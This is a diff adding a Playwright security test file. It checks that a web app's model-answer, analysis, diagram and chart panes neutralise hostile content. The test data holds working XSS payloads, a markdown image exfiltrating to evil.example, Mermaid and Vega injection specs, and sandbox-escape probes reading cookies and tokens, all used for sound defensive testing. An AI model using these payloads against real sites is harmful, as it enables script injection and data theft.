@@ -1,0 +1,194 @@
+"""What a model or a document may say to the page's panes and pictures: nothing of it runs, loads or leaves."""
+
+import shutil
+from pathlib import Path
+
+import pytest
+from playwright.async_api import Page, Route, expect
+
+from tests.browser.chromium import open_page
+from tests.browser.tabs import open_tab
+from tests.model_server.running import running_model_server
+from tests.serving import Served, serving
+
+HOSTILE = [
+    "<script>window.ran = 1</script>",
+    "<img src=x onerror='window.ran = 1'>",
+    "<svg/onload=window.ran=1>",
+    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
+    "[link](javascript:window.ran=1)",
+    "![picture](https://evil.example/?leak)",
+    '<a href="javascript:window.ran=1">x</a>',
+    "`<b onmouseover=window.ran=1>`",
+    "**<style>*{display:none}</style>**",
+    "| <img src=x onerror=window.ran=1> | b |\n|---|---|\n| <script>window.ran=1</script> | &lt;b&gt; |",
+    "```\n</code></pre><script>window.ran=1</script>\n```",
+    "# <math><mi xlink:href='data:x,<script>window.ran=1</script>'>",
+    "\u202e\u2066gnp.exe\u0000\ud7ff",
+]
+SAID = "\n\n".join(HOSTILE)
+FOREIGN = "script, iframe, style, svg, math, img, a, b, object, embed, [onerror], [onload], [style]"
+DIAGRAMS = {
+    "loose": '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\n'
+    'flowchart LR\n  A["<img src=x onerror=parent.ran=1>"] --> B["<script>parent.ran=1</script>"]\n'
+    '  click A "javascript:parent.ran=1"\n  click B call alert(1)',
+    "er": 'erDiagram\n  "A <img src=x onerror=parent.ran=1>" ||--o{ B : "<script>parent.ran=1</script>"',
+    "css": '%%{init: {"themeCSS": "*{background:url(https://evil.example/x)}"}}%%\nflowchart LR\n  A --> B',
+    "image": 'flowchart LR\n  A@{ img: "https://evil.example/x.png", label: "x" }',
+}
+CHARTS = {
+    "image": {"mark": {"type": "image", "url": "https://evil.example/x.png"}},
+    "link": {"mark": {"type": "bar", "href": "javascript:parent.ran=1"}},
+    "data": {"data": {"url": "https://evil.example/x.json"}, "mark": "bar"},
+    "expression": {
+        "mark": "point",
+        "params": [{"name": "p", "expr": "[].constructor.constructor('parent.ran=1')()"}],
+    },
+    "text": {"mark": {"type": "text", "text": "<script>parent.ran=1</script>"}},
+    "title": {"mark": "bar", "title": "<img src=x onerror=parent.ran=1>"},
+}
+VALUES = {
+    "data": {"values": [{"a": "<img src=x onerror=parent.ran=1>", "b": 1}]},
+    "encoding": {"x": {"field": "a"}, "y": {"field": "b"}},
+}
+DRAW = """async ([kind, content]) => {
+    const { Picture } = await import('/ws/test/pictures.js');
+    const place = document.createElement('div');
+    document.body.append(place);
+    return await new Picture(place, kind).show(content, 'hostile') || 'drawn';
+}"""
+
+
+async def left_alone(page: Page) -> None:
+    """Nothing ran, and what was said stands there as text."""
+    assert await page.evaluate("window.ran") is None
+    assert page.problems == []  # type: ignore[attr-defined]
+
+
+async def watch(page: Page, server: Served) -> list[str]:
+    """The addresses beyond the server that a request really leaves for; what a policy stops never gets this far."""
+    strange: list[str] = []
+
+    async def stop(route: Route) -> None:
+        strange.append(route.request.url)
+        await route.abort()
+
+    await page.context.route(lambda url: url.startswith("http") and not url.startswith(server.http), stop)
+    return strange
+
+
+async def test_what_a_model_says(ingested: Path, tmp_path: Path) -> None:
+    data = Path(shutil.copytree(ingested, tmp_path / "data"))
+    with running_model_server() as provider:
+        provider.script(always={"kind": "says", "payload": SAID})
+        settings = {"OPENAI_API_KEY": "k", "OPENAI_BASE_URL": provider.base_url, "PITCREW_MODELS": "openai:scripted"}
+        with serving(data, **settings) as served:
+            async with open_tab(served.http, "reasoning") as (page, panel):
+                strange = await watch(page, served)
+                await panel.get_by_label("Your message").fill("What is the roof load of the Heron?")
+                await panel.get_by_role("button", name="Send").click()
+                await panel.get_by_role("button", name="Connect", exact=True).click()
+                final = panel.locator(".step[data-type=final_answer]")
+                await expect(final).to_contain_text(HOSTILE[1][5:], timeout=20_000)
+                assert await final.locator(FOREIGN).count() == 0
+                await page.get_by_role("tab", name="Query").click()
+                panel = page.locator("#panel-query")
+                await panel.get_by_label("Question", exact=True).fill("What is the roof load of the Heron?")
+                await panel.get_by_label("Question", exact=True).press("Enter")
+                answer = panel.locator("[data-part=answer]")
+                await expect(answer).to_contain_text(HOSTILE[1][5:], timeout=20_000)
+                assert await answer.locator(FOREIGN).count() == 0
+                await left_alone(page)
+                assert strange == []
+
+
+async def test_what_an_analysis_says(server: Served) -> None:
+    frames = [
+        {"type": "start", "message": SAID},
+        {"type": "progress", "stage": "analyst", "message": SAID},
+        *({"type": kind, "content": SAID} for kind in ("chain_of_thought", "reasoning", "reflection")),
+        {"type": "code_chunk", "chunk": SAID, "attempt": 1},
+        {"type": "verification", "is_valid": True, "confidence": 0.5, "attempts": 1, "checks": HOSTILE},
+        {
+            "type": "data_ready",
+            "data": {"code": SAID, "columns": HOSTILE, "result_preview": [dict.fromkeys(HOSTILE, SAID)], "total": 1},
+        },
+        {"type": "analysis_chunk", "chunk": SAID},
+        {"type": "error", "message": SAID, "code": "<b>"},
+    ]
+    async with open_tab(server.http, "analysis") as (page, panel):
+        strange = await watch(page, server)
+        await page.evaluate(
+            """async (frames) => {
+                const { AnalysisView } = await import('/ws/test/analysis_view.js');
+                const view = new AnalysisView((name) => document.querySelector(`#panel-analysis [data-part=${name}]`));
+                view.begin(frames[0].message);
+                for (const frame of frames) view.show(frame);
+            }""",
+            frames,
+        )
+        for name in ("text", "thoughts", "code", "table", "checks", "problem", "asked"):
+            pane = panel.locator(f"[data-part={name}]")
+            await expect(pane).to_contain_text("onerror='window.ran = 1'")
+            assert await pane.locator(FOREIGN).count() == 0
+        await left_alone(page)
+        assert strange == []
+
+
+async def test_long_text_of_every_mark_is_made_in_time(server: Served) -> None:
+    """Markdown is read again with each piece that comes: it must not take longer than its length asks for."""
+    marks = ["*", "**", "`", "```\n", "[", "[a](", "![", "|", "|-|\n", "# ", "- ", "> ", "1. ", "*a", "**a", "[a]("]
+    async with open_page() as page:
+        await page.goto(f"{server.http}/ws/test")
+        slow = await page.evaluate(
+            """async (marks) => {
+                const { markdown } = await import('/ws/test/markdown.js');
+                return marks.filter((mark) => {
+                    const began = performance.now();
+                    markdown(mark.repeat(100_000 / mark.length));
+                    return performance.now() - began > 1_000;
+                });
+            }""",
+            marks,
+        )
+        assert slow == []
+
+
+@pytest.mark.usefixtures("bundles")
+async def test_hostile_pictures(server: Served) -> None:
+    async with open_page() as page:
+        strange = await watch(page, server)
+        await page.goto(f"{server.http}/ws/test")
+        for source in DIAGRAMS.values():
+            await page.evaluate(DRAW, ["diagram", source])
+        for specification in CHARTS.values():
+            await page.evaluate(DRAW, ["chart", VALUES | specification])
+        assert await page.evaluate("window.ran") is None
+        assert strange == []
+        assert await page.locator("body > div svg, body > div a").count() == 0
+        assert await page.locator("body > div img").count() >= 4
+
+
+@pytest.mark.usefixtures("bundles")
+async def test_the_frame_that_draws_can_reach_nothing(server: Served) -> None:
+    async with open_page() as page:
+        await page.goto(f"{server.http}/ws/test")
+        assert await page.evaluate(DRAW, ["diagram", "flowchart LR\n  A --> B"]) == "drawn"
+        frame = next(one for one in page.frames if one.url.endswith("/drawing"))
+        assert await frame.evaluate("window.origin") == "null"
+        for attempt in (
+            "parent.document.title",
+            "localStorage.length",
+            "document.cookie",
+            "fetch('/ws/test/token').then(answer => answer.text())",
+            "open('/ws/test').document",
+            """new Promise((opened, refused) => {
+                const socket = new WebSocket(`ws://${location.host}/ws/chat`);
+                socket.onopen = opened;
+                socket.onerror = refused;
+            })""",
+        ):
+            tried = f"(async () => {attempt})().then(() => 'reached', () => 'refused')"
+            assert await frame.evaluate(tried) == "refused", attempt
+        assert await page.evaluate(DRAW, ["diagram", "this is no diagram"]) != "drawn"
+        assert await page.evaluate(DRAW, ["chart", {"mark": "nonsense"}]) != "drawn"
